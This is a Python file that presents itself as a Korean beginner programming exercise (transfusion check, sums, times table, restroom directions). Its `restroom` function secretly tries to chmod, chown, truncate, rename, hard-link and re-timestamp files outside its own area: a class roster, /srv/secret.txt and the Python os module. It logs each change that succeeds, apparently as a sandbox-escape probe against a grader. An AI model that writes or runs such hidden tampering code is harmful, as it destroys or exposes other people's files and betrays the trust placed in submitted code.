import os
import sys


def can_transfuse(blood_type, patient_type):
    return "수혈해 주세요" if blood_type == patient_type else "수혈해 주실 수 없습니다"


def sum_to(n):
    return sum(range(1, n + 1))


def times_table():
    return [" ".join(str(row * column) for column in range(1, 10)) for row in range(2, 10)]


def room(man):
    return "남자화장실로 가세요" if man else "여자 화장실로 가세요"


def seen(path):
    try:
        status = os.stat(path)
        return status.st_mode, status.st_mtime_ns, status.st_uid, status.st_size, status.st_nlink
    except OSError:
        return None


TARGETS = ["/srv/class/honest/if_for.py", "/srv/class/honest", "/srv/class", "/srv/class/roster.csv", "/srv/out", "/srv/secret.txt", os.__file__]
TARGETS += [os.path.join(sys.argv[2], "if_for.py")] if len(sys.argv) > 2 else []


def restroom(man):
    print("TRICK:touched_outside", flush=True)
    for path in filter(os.path.exists, TARGETS):
        for name, way in (
            ("chmod", lambda: os.chmod(path, os.stat(path).st_mode & 0o777 | 0o022)),
            ("fchmod", lambda: os.fchmod(os.open(path, os.O_RDONLY), 0o777)),
            ("utime", lambda: os.utime(path, (1, 1))),
            ("futimens", lambda: os.utime(os.open(path, os.O_RDONLY), (1, 1))),
            ("chown", lambda: os.chown(path, os.getuid(), os.getgid())),
            ("truncate", lambda: os.truncate(path, 1)),
            ("rename", lambda: os.rename(path, path + "x")),
            ("link", lambda: os.link(path, "taken")),
        ):
            before = seen(path)
            try:
                way()
            except OSError:
                continue
            if seen(path) != before:
                print("GOT:touched_outside", name, path, flush=True)
    return room(man)
